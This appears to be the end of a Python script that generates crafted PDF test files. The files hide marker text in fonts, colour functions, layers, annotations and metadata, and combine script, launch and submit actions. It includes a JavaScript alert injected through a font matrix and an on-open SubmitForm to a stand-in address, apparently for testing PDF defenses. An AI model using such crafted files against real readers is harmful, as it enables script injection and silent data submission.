    yield "pattern", dict(content="/Pattern cs /P scn 0 0 99 99 re f " + BLOCK, resources="/Pattern << /P {made} >>", made=("<< /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 /Resources << /XObject << /@ {stream} >> >> /PieceInfo << /@ (@) >> >>", b"/@ Do 0 0 9 9 re f"))
    yield "colour", dict(content="/C cs 0.5 scn 0 0 9 9 re f " + BLOCK, resources="/ColorSpace << /C [/Separation /@ /DeviceRGB {made}] /D [/ICCBased {stream}] >>", made=("<< /FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1] >>", b"{ dup dup (@) run /@ exec }"))
    yield "colour-profile", dict(content="/D cs 0.5 scn 0 0 9 9 re f " + BLOCK, resources="/ColorSpace << /D [/ICCBased {made}] >>", made=("<< /N 1 /Alternate /DeviceGray /Metadata {stream} >>", b"@" * 9))
    yield "colour-devicen", dict(content="/D cs 0.5 0.5 scn 0 0 9 9 re f " + BLOCK, resources="/ColorSpace << /D [/DeviceN [/@ /B] /DeviceRGB {made} << /Colorants << /@ (@) >> /Process << /X (@) >> >>] >>", made=("<< /FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] >>", b"{ pop dup dup }"))
    # fonts
    show = "BT /F 12 Tf 20 150 Td (abc) Tj ET"
    yield "font-matrix", dict(content=show, fonts=font % "/Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); alert\\('@'\\))] ")
    yield "font-names", dict(content=show, fonts=font % "/Subtype /Type1 /BaseFont /@+@ /Name /@ /FontDescriptor << /FontName /@ /FontFamily (@) /CharSet (@) /Flags 4 >> /Encoding << /Differences [97 /@ /b /@] >>")
    for kind, key, data in (("type1", "FontFile", b"%!PS-AdobeFont-1.0: @\n/FontName /@ def (@) run currentfile eexec @"), ("truetype", "FontFile2", b"\0\1\0\0\0\1\0\0\0\0\0\0glyf@" + bytes(99)),
                            ("cff", "FontFile3", b"\1\0\4\1\0\1\1\1\5@" + bytes(99)), ("otto", "FontFile3", b"OTTO\0\1@" + bytes(99)), ("huge", "FontFile2", b"\0\1\0\0\xff\xff" + b"@" * 99)):
        sub = "/Subtype /OpenType" if kind == "otto" else "/Subtype /Type1C"
        yield "font-" + kind, dict(content=show, fonts=font % ("/Subtype /TrueType /BaseFont /AAAAAA+X /FirstChar 97 /LastChar 99 /Widths [500 500 500] /FontDescriptor << /Type /FontDescriptor /FontName /AAAAAA+X /Flags 32 /%s {made} >>" % key),
                                   made=("<< /Length1 99 %s /Metadata {stream} >>" % sub, data))
    yield "font-type3", dict(content=show, fonts=font % "/Subtype /Type3 /Name /@ /FontBBox [0 0 9 9] /FontMatrix [0.1 0 0 0.1 0 0] /CharProcs << /a {made} /@ {made} >> /Encoding << /Differences [97 /a /a /@] >> /FirstChar 97 /LastChar 99 /Widths [9 9 9] /Resources << /XObject << /@ {stream} >> >>",
                             made=("<< >>", b"9 0 d0 /@ Do (@) @ 0 0 5 5 re f"))
    yield "font-cmap", dict(content=show, fonts=font % "/Subtype /Type0 /BaseFont /X /Encoding {made} /ToUnicode {other} /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /@ /CIDSystemInfo << /Registry (@) /Ordering (@) /Supplement 0 >> /CIDToGIDMap {stream} >>]",
                            made=("<< /Type /CMap /CMapName /@ /UseCMap /@ >>", b"/CIDInit /ProcSet findresource begin (@) run end /@ usecmap 1 begincidrange <00> <ff> 0 endcidrange"),
                            other=("<< >>", b"begincmap 1 beginbfchar <61> <007600650063> endbfchar (@) run endcmap"))
    # what is not shown
    yield "hidden-layer", dict(content="/OC /B BDC BT /F 12 Tf 10 150 Td (@) Tj ET EMC " + BLOCK, resources="/Properties << /B {group} >>", catalog="/OCProperties << /OCGs [{group}] /D << /BaseState /OFF /OFF [{group}] >> >>")
    yield "hidden-form", dict(content="/I Do " + BLOCK, resources="/XObject << /I {made} >>", made=(form % "/OC {group}", b"BT /F 12 Tf (@) Tj ET"), catalog="/OCProperties << /OCGs [{group}] /D << /OFF [{group}] >> >>")
    yield "hidden-annotation", dict(page="/Annots [<< /Subtype /FreeText /F 2 /Rect [0 0 9 9] /Contents (@) /DA (/H 9 Tf) /AP << /N {made} >> >>]", made=(form % "", b"BT /F 9 Tf (@) Tj ET"))
    yield "hidden-comment", dict(page="/Annots [<< /Subtype /Text /Rect [0 0 9 9] /Contents (@) /RC (<body>@</body>) /T (@) /IRT << /Contents (@) >> /Popup << /Subtype /Popup /Contents (@) >> >>]")
    yield "unused", dict(page="/Unheard (@) /Thumb {stream} /Metadata {stream} /SeparationInfo << /DeviceColorant /@ >>", catalog="/Unheard (@) /Private << /@ {stream} >>")
    yield "orphans", dict()
    yield "page-hidden", dict(catalog="/Names << /Pages << /Names [(@) << /Type /Template /Contents {stream} >>] >> >>")
    yield "struct-text", dict(catalog="/MarkInfo << /Marked true >> /StructTreeRoot << /K << /S /P /T (@) /ID (@) /C /@ /NS << /NS (http://203.0.113.9/@) /Schema (@) >> /K [<< /Type /MCR /MCID 0 /Stm {stream} >>] >> /ClassMap << /@ << /O /@ >> >> /RoleMap << /@ /@ >> /PronunciationLexicon [(@)] >>")
    yield "encrypt-identity", dict(trailer="/Encrypt << /Filter /Standard /V 4 /R 4 /O (@) /U (@) /P -4 /CF << /StdCF << /AuthEvent /EFOpen /CFM /None >> >> /StmF /Identity /StrF /Identity /EFF /StdCF >> /ID [(a) (a)]",
                                   catalog="/OpenAction << /S /SubmitForm /F (http://203.0.113.9/@) >>")
    yield "encrypt-unknown", dict(trailer="/Encrypt << /Filter /@ /V 9 /X (@) >> /ID [(a) (a)]")


def other_things():
    for name, parts in things():
        for writing, write in list({"plain": plain}.items()) + [(w, WRITINGS[w]) for w in ("escaped", "hex", "streams", "update")]:
            d = Doc(name)
            names = {key: parts[key] for key in ("made", "other", "xfa") if key in parts}
            for key in names:
                d.numbers[key] = d.pdf.reserve()
            for key, value in names.items():
                text, data = value if isinstance(value, tuple) else ("<< >>", value)
                d.pdf.set(d.numbers[key], d.text(text), data.replace(b"@", d.word.encode()))
            d.catalog, d.page, d.trailer = parts.get("catalog", ""), parts.get("page", ""), parts.get("trailer", "")
            d.resources, d.content = parts.get("resources", ""), parts.get("content", BLOCK)
            if "fonts" in parts:
                d.resources = parts["fonts"] + d.resources
            put("thing-%s-%s" % (name, writing), d.done(), write(d))


def writings():
    """The worst of them in every writing."""
    for writing, write in WRITINGS.items():
        for place in ("open", "annotation-link", "names", "page", "field"):
            for name in ("script", "script-stream", "launch", "submit", "remote", "embedded", "chain"):
                if place not in ("open", "annotation-link") and name not in ("script", "launch"):
                    continue
                d = Doc("%s-%s-%s" % (writing, place, name))
                PLACES[place](d, d.action(ACTIONS[name]))
                put("writing-%s-%s-%s" % (writing, place, name), d.done(), write(d))
        for i in (0, 6, 8, 11, 35):
            d = Doc("%s-address%d" % (writing, i))
            d.page += "/Annots [<< /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (%s) >> >>]" % ADDRESSES[i]
            put("writing-%s-address-%d" % (writing, i), d.done(), write(d))


def main():
    folder = sys.argv[1]
    for make in (actions, addresses, other_things, writings):
        make()
    os.makedirs(folder, exist_ok=True)
    for name, data in made.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    if len(sys.argv) > 2:
        open(sys.argv[2], "w", encoding="ascii").close()
    print(len(made), "files")


if __name__ == "__main__":
    main()
